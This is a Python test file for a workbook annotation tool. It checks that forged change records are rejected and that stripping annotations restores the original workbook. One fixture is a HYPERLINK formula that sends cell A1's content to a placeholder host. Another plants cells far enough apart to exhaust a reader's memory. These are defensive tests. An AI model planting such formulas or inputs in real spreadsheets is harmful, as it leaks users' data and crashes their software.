"""A record that was forged: whatever it says, nothing comes into the workbook or goes out of it."""

from __future__ import annotations

import re

import pytest

from tests.workbooks import packages
from validators.finding import Severity
from workbooks.annotate import record
from workbooks.annotate.annotator import annotate
from workbooks.annotate.layout import ResultSheet
from workbooks.annotate.marks import Mark
from workbooks.annotate.strip import is_annotated, strip
from workbooks.arrival.formats import opened

MARKS = [Mark("申請書", "A2", Severity.ERROR, "上限を超えています。")]
SHEET, BOOK, VBA = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/vbaProject.bin"
FORMULA = b'<c r="B2" t="str"><f>HYPERLINK("http://x.invalid/"&amp;A1,"a")</f><v>\xe7\x94\xb3\xe8\xab\x8b\xe6\x9b\xb8\xe6\xa7\x98</v></c>'
CELL = re.compile(rb'<c r="B2".*?</c>')


def source() -> bytes:
    """Return a workbook with a formula, a rule for input, a name, and a part of another kind."""
    rule = (
        '<dataValidations count="1"><dataValidation type="whole" sqref="B1"><formula1>100</formula1>'
        "</dataValidation></dataValidations>"
    )
    return packages.workbook(
        sheets={"申請書": packages.sheet(after=rule)},
        parts={VBA: b"macro"},
        types={VBA: "application/vnd.ms-office.vbaProject"},
        book_after="<definedNames><definedName name=\"額\">'申請書'!$B$1</definedName></definedNames>",
    )


def forged(part: str, old: bytes, new: bytes) -> bytes:
    """Return a copy whose record says that ``part`` had ``new`` where it has ``old``."""
    copy = annotate(source(), MARKS, ResultSheet())
    known = record.find_record(opened(copy))
    assert known is not None
    now = packages.unzipped(copy)[part]
    start = now.index(old)
    was = now.replace(old, new, 1)
    steps = [(start, len(old), new)]
    changed = {**known.edited, part: record.Edited(record.digest(was), record.digest(now), steps)}
    files = packages.unzipped(copy)
    files[known.part] = record.coded(known.added, changed)
    return packages.zipped(files)


CASES = {
    "a formula in the place of a text": (SHEET, CELL.search(packages.DATA.encode())[0], FORMULA),
    "a value in the place of a formula": (SHEET, b"<f>A1&amp;\"\xe6\xa7\x98\"</f>", b""),
    "a cell gone": (SHEET, b'<c r="B1"><v>1</v></c>', b""),
    "cells so far apart that a reader's process would die of them": (
        SHEET,
        b"</sheetData>",
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
    ),
    "another number in a cell": (SHEET, b"<v>1</v>", b"<v>2</v>"),
    "another digit in a cell": (SHEET, b"1</v></c></row>", b"7</v></c></row>"),
    "a looser rule for input": (SHEET, b"100", b"900"),
    "no rule for input": (SHEET, b'<dataValidation type="whole" sqref="B1"><formula1>100</formula1></dataValidation>', b""),
    "a name that leads elsewhere": (BOOK, b"1</definedName><", b"9</definedName><"),
    "a name gone": (BOOK, "<definedName name=\"額\">'申請書'!$B$1</definedName>".encode(), b""),
    "formats cut short": ("xl/styles.xml", b'<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>', b""),
    "a hidden sheet": (BOOK, b' sheetId="1"', b' sheetId="1" state="hidden"'),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_what_a_forged_record_says_is_not_believed(name: str) -> None:
    copy = forged(*CASES[name])
    assert is_annotated(copy)
    before, after = packages.unzipped(source()), packages.unzipped(strip(copy))
    assert before[SHEET] == after[SHEET]
    assert before.keys() <= after.keys()
    # An emptied list of relationships may stay behind.
    assert after.keys() - before.keys() <= {"xl/worksheets/_rels/sheet1.xml.rels"}
    assert after[BOOK].count(b"definedName ") == before[BOOK].count(b"definedName ")
    assert b"hidden" not in after[BOOK] and b"applyNumberFormat" in after["xl/styles.xml"]


@pytest.mark.parametrize("name", CASES)
def test_a_new_copy_says_that_the_record_was_not_believed(name: str) -> None:
    parts = packages.unzipped(annotate(forged(*CASES[name]), MARKS, ResultSheet()))
    assert "記録は、内容と合わないため使いませんでした" in parts["xl/worksheets/kyotenResult1.xml"].decode()
    assert b"HYPERLINK" not in parts[SHEET]


def test_a_forged_record_cannot_take_out_a_part_of_others() -> None:
    files = packages.unzipped(annotate(source(), MARKS, ResultSheet()))
    known = record.find_record(opened(packages.zipped(files)))
    assert known is not None
    files[known.part] = record.coded([*known.added, VBA], known.edited)
    assert packages.unzipped(strip(packages.zipped(files)))[VBA] == b"macro"


def test_an_honest_record_is_believed_and_nothing_is_said() -> None:
    copy = annotate(source(), MARKS, ResultSheet())
    assert packages.unzipped(strip(copy)) == packages.unzipped(source())
    again = packages.unzipped(annotate(copy, MARKS, ResultSheet()))
    assert "使いませんでした" not in again["xl/worksheets/kyotenResult1.xml"].decode()
